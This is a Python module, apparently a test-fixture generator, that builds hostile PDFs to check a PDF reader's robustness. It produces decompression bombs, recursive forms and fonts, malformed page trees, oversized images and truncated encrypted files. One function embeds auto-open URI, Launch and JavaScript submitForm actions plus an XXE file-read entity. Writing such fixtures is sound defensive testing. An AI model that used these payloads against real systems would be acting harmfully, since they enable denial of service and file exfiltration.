"""Makes PDFs that try to hurt who reads them: bombs, loops, lies about sizes, work without end, words to the network."""

# ruff: noqa: E501 (data is easier to read unbroken)

from __future__ import annotations

import io
import zlib
from collections.abc import Callable

from formats.hostile_files import DAMAGED, ENCRYPTED, LARGE, READ, Maker

FONT = "<< /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Times-Roman >> >> >>"
A4 = "/MediaBox [0 0 595 842]"
WITH_FONT = f"{A4} /Resources {FONT}"
WITH_X = f"{A4} /Resources << /XObject << /X 5 0 R >> >>"
WORDS = b"BT /F1 12 Tf 1 0 0 1 72 700 Tm (Dieu 1. Thong qua) Tj ET"


def stream(content: bytes, head: str = "", *, packed: bool = True) -> bytes:
    """A stream object, packed unless it is so already."""
    data = zlib.compress(content, 9) if packed else content
    return (
        f"<< {head} /Length {len(data)} {'/Filter /FlateDecode' if packed else ''} >> stream\n".encode()
        + data
        + b"\nendstream"
    )


def pdf(
    content: bytes,
    page: str = WITH_FONT,
    extra: tuple[bytes, ...] = (),
    *,
    pages: str = "/Kids [3 0 R] /Count 1",
    catalog: str = "",
    trailer: str = "",
) -> bytes:
    """A PDF of one page; `content` is its stream of drawing, or a whole object; `extra` are objects from number 5 on."""
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R {catalog} >>".encode(),
        f"<< /Type /Pages {pages} >>".encode(),
        f"<< /Type /Page /Parent 2 0 R /Contents 4 0 R {page} >>".encode(),
        content if content.startswith(b"<<") else stream(content),
        *extra,
    ]
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    end = f"trailer << /Root 1 0 R /Size {len(objects) + 1} {trailer} >>\nstartxref\n{start}\n%%EOF"
    return bytes(out + end.encode())


def form(content: bytes, resources: str) -> bytes:
    """A form that pages draw."""
    return stream(content, f"/Type /XObject /Subtype /Form /BBox [0 0 600 900] /Resources << {resources} >>")


def image(width: int, height: int, data: bytes, more: str = "/ColorSpace /DeviceGray", **how: bool) -> bytes:
    """A picture that pages draw."""
    return stream(
        data, f"/Type /XObject /Subtype /Image /Width {width} /Height {height} /BitsPerComponent 8 {more}", **how
    )


def shown(picture: bytes, size: str = A4) -> bytes:
    """A page that is a picture."""
    return pdf(b"595 0 0 842 0 0 cm /X Do", f"{size} /Resources << /XObject << /X 5 0 R >> >>", (picture,))


def _packed_twice(size: int) -> bytes:
    once = zlib.compress(b"0 0 m " * size, 9)
    twice = zlib.compress(once, 9)
    return b"<< /Filter [/FlateDecode /FlateDecode] /Length %d >> stream\n" % len(twice) + twice + b"\nendstream"


def _doubling(depth: int) -> bytes:
    """Each form draws the next one ten times."""
    forms = [form(b"/X Do " * 10, f"/XObject << /X {6 + k} 0 R >>") for k in range(depth)]
    return pdf(
        b"/X Do",
        WITH_X,
        (*forms, form(WORDS, "/Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >>")),
    )


def _many_pages(count: int) -> bytes:
    kids = " ".join(f"{5 + k} 0 R" for k in range(count))
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"
    return pdf(b"", extra=(page,) * count, pages=f"/Kids [{kids}] /Count {count}")


def _many_fonts(count: int) -> bytes:
    fonts = " ".join(f"/F{k} << /Type /Font /Subtype /Type1 /BaseFont /Font{k} >>" for k in range(count))
    text = b"".join(b"BT /F%d 9 Tf 9 9 Td (a) Tj ET " % k for k in range(count))
    return pdf(text, f"{A4} /Resources << /Font << {fonts} >> >>")


def _map_of_letters() -> bytes:
    ranges = b"".join(b"<%04X> <FFFF> <%04X>\n" % (k % 65_536, k % 65_536) for k in range(40_000))
    cmap = stream(
        b"/CIDInit /ProcSet findresource begin begincmap 40000 beginbfrange\n" + ranges + b"endbfrange endcmap end"
    )
    font = b"<< /Type /Font /Subtype /Type1 /BaseFont /Times-Roman /ToUnicode 6 0 R >>"
    return pdf(WORDS, f"{A4} /Resources << /Font << /F1 5 0 R >> >>", (font, cmap))


def _draws_itself_as_a_letter() -> bytes:
    glyph = stream(b"1000 0 0 0 750 750 d1 BT /F1 1 Tf (aaaaaaaaaa) Tj ET")
    font = (
        b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 750 750] /FontMatrix [1 0 0 1 0 0] /CharProcs << /a 6 0 R >> "
        b"/Encoding << /Type /Encoding /Differences [97 /a] >> /FirstChar 97 /LastChar 97 /Widths [1000] "
        b"/Resources << /Font << /F1 5 0 R >> >> >>"
    )
    return pdf(
        b"BT /F1 9 Tf 72 700 Td (aaaaaaaaaa) Tj ET", f"{A4} /Resources << /Font << /F1 5 0 R >> >>", (font, glyph)
    )


def locked() -> bytes:
    """A PDF that asks for a password."""
    from reportlab.lib.pdfencrypt import StandardEncryption
    from reportlab.pdfgen.canvas import Canvas

    out = io.BytesIO()
    canvas = Canvas(out, encrypt=StandardEncryption("secret", strength=128), invariant=1)
    canvas.drawString(72, 700, "Dieu 1.")
    canvas.save()
    return out.getvalue()


def reaching(url: str, path: str) -> bytes:
    """A PDF that would have a reader fetch something: pages of other files, scripts, actions, streams kept elsewhere."""
    catalog = (
        f"/OpenAction << /S /URI /URI ({url}/uri) >> /AA << /WC << /S /Launch /F ({path}) >> >> "
        f"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (this.submitForm('{url}/js')) >>] >> >> "
        f"/AcroForm << /XFA [(x) 7 0 R] /Fields [] >>"
    )
    outside = f"<< /Type /XObject /Subtype /Image /Width 9 /Height 9 /BitsPerComponent 8 /ColorSpace /DeviceGray /Length 0 /F << /FS /URL /F ({url}/image) >> >> stream\n\nendstream"
    other = f"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F ({path}) /Page 0 >> /Length 0 >> stream\n\nendstream"
    page = f"{A4} /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Times-Roman >> >> /XObject << /X 5 0 R /Y 6 0 R >> >>"
    xfa = stream(f'<!DOCTYPE a [<!ENTITY x SYSTEM "file://{path}">]><a>&x;</a>'.encode())
    return pdf(WORDS + b" /X Do /Y Do", page, (outside.encode(), other.encode(), xfa), catalog=catalog)


def _cut(make: Callable[[], bytes], share: float) -> bytes:
    data = make()
    return data[: int(len(data) * share)]


PDF: dict[str, tuple[Maker, tuple[str, ...]]] = {
    "bomb": (lambda: pdf(b"0 0 m " * 50_000_000), (LARGE, DAMAGED, READ)),
    "bomb packed twice": (lambda: pdf(_packed_twice(50_000_000)), (LARGE, DAMAGED, READ)),
    "endless text": (lambda: pdf(b"BT /F1 9 Tf " + b"1 0 0 1 9 9 Tm (dieu) Tj " * 2_000_000 + b"ET"), (LARGE, DAMAGED)),
    "text in one line without end": (lambda: pdf(b"BT /F1 9 Tf 9 9 Td (" + b"a " * 20_000_000 + b") Tj ET"), (LARGE, DAMAGED, READ)),
    "as much text as a page may hold": (
        lambda: pdf(b"BT /F1 1 Tf " + b"".join(b"1 0 0 1 %d %d Tm (dieu a) Tj " % (k * 7 % 590, k // 80) for k in range(6_000)) + b"ET"), (READ,)
    ),
    "very many lines": (lambda: pdf(WORDS + b" 0 0 m 99 99 l S " * 1_000_000), (LARGE, READ)),
    "a net of lines": (
        lambda: pdf(WORDS + b"".join(b"%d 0 m %d 842 l S 0 %d m 595 %d l S " % (k, k, k, k) for k in range(590))), (READ,)
    ),
    "one path of endless lines": (lambda: pdf(b"0 0 m " + b"99 99 l 0 0 l " * 1_000_000 + b"S"), (LARGE, READ)),
    "a form that draws itself": (lambda: pdf(b"/X Do", WITH_X, (form(b"/X Do", "/XObject << /X 5 0 R >>"),)), (READ,)),
    "forms that draw one another tenfold": (lambda: _doubling(9), (LARGE, DAMAGED)),
    "letters that draw themselves": (_draws_itself_as_a_letter, (READ,)),
    "a tree that holds itself": (lambda: pdf(b"", pages="/Kids [2 0 R 3 0 R] /Count 2"), (READ, DAMAGED)),
    "a page count that lies": (lambda: pdf(b"", pages="/Kids [3 0 R] /Count 2000000000"), (LARGE, DAMAGED, READ)),
    "a page count below nothing": (lambda: pdf(WORDS, pages="/Kids [3 0 R] /Count -5"), (READ, DAMAGED)),
    "too many pages": (lambda: _many_pages(5_000), (LARGE,)),
    "a page of endless size": (lambda: pdf(WORDS, f"/MediaBox [0 0 1e30 1e30] /Resources {FONT}"), (READ, DAMAGED)),
    "a page without size": (lambda: pdf(WORDS, f"/MediaBox [5 5 5 5] /Resources {FONT}"), (READ, DAMAGED)),
    "numbers that are none": (lambda: pdf(b"BT /F1 1e400 Tf 1e39 0 0 1e39 nan inf Tm (dieu) Tj ET"), (READ, DAMAGED)),
    "brackets without end": (lambda: pdf(b"[" * 3_000_000), (READ, DAMAGED, LARGE)),
    "dictionaries without end": (lambda: pdf(b"", "<<" * 200_000), (READ, DAMAGED)),
    "very many fonts": (lambda: _many_fonts(20_000), (READ, LARGE)),
    "a map of letters without end": (_map_of_letters, (READ, DAMAGED, LARGE)),
    "a picture of endless size": (lambda: shown(image(100_000, 100_000, bytes(1_000_000))), (READ, DAMAGED, LARGE)),
    "a picture of size beyond numbers": (lambda: shown(image(2_147_483_647, 2_147_483_647, bytes(1_000))), (READ, DAMAGED, LARGE)),
    "a bomb in a picture": (lambda: shown(image(30_000, 20_000, bytes(600_000_000))), (READ, DAMAGED, LARGE)),
    "pictures upon pictures": (
        lambda: pdf(b"595 0 0 842 0 0 cm " + b"/X Do " * 100_000, WITH_X, (image(900, 900, bytes(810_000)),)), (LARGE,)
    ),
    "broken JPEG 2000": (lambda: shown(image(900, 900, b"\0\0\0\x0cjP  \r\n\x87\n" + bytes(500), "/Filter /JPXDecode", packed=False)), (READ, DAMAGED)),
    "broken JBIG2": (lambda: shown(image(900, 900, b"\xff" * 500, "/Filter /JBIG2Decode /ColorSpace /DeviceGray", packed=False)), (READ, DAMAGED)),
    "a thousand filters": (
        lambda: pdf(b"<< /Filter [" + b"/ASCIIHexDecode " * 1_000 + b"] /Length 4 >> stream\n4142\nendstream"), (READ, DAMAGED)
    ),
    "locked": (locked, (ENCRYPTED,)),
    "locked in an unknown way": (
        lambda: pdf(b"", extra=(b"<< /Filter /Unknown /V 9 >>",), trailer="/Encrypt 5 0 R /ID [<00> <00>]"), (ENCRYPTED, DAMAGED, READ)
    ),
    "cut in the middle": (lambda: _cut(locked, 0.5), (DAMAGED, ENCRYPTED)),
    "cut at its beginning": (lambda: b"%PDF-1.7\n" + locked()[900:], (DAMAGED, ENCRYPTED)),
    "nothing but its first line": (lambda: b"%PDF-1.7\n", (DAMAGED,)),
    "empty": (lambda: b"", (DAMAGED,)),
    "tables of contents in a circle": (lambda: pdf(WORDS, trailer="/Prev 9"), (READ, DAMAGED)),
    "noise of the largest size": (lambda: b"%PDF-1.7\n" + b"9 0 obj << " * 6_000_000, (DAMAGED, LARGE)),
    "too large": (lambda: b"%PDF-1.7\n" + bytes(65 * 1024 * 1024), (LARGE,)),
}  # fmt: skip
